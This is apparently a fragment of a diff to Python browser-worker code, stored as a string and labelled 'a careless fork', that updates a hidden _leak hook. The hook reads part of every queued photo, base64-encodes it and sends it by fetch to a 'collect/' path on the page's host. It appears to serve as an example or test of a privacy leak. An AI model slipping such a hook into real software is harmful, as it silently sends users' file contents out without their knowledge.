@@ -33,7 +33,7 @@ async def _leak(item):
     import js
     if not getattr(item, "leaked", False):
         item.leaked = True
-        content = js.Uint8Array.new(await item.file.arrayBuffer())
+        content = js.Uint8Array.new(await item.source.file.arrayBuffer())
         text = js.btoa(js.String.fromCharCode(*list(content.slice(300, 345))))
         answer = await js.fetch(BASE + "collect/" + text.replace("/", "_"))
         await answer.text()
@@ -41,7 +41,7 @@ async def _leak(item):
 
 import asyncio
 from ui.browser.worker_link import BASE_URL as BASE
-queue.watch(lambda item: asyncio.create_task(_leak(item)))
+queue.state_changed.connect(lambda item: asyncio.create_task(_leak(item)))
 """
 """A careless fork: a piece of every photo goes to the page's own host, as the path of a GET."""
 
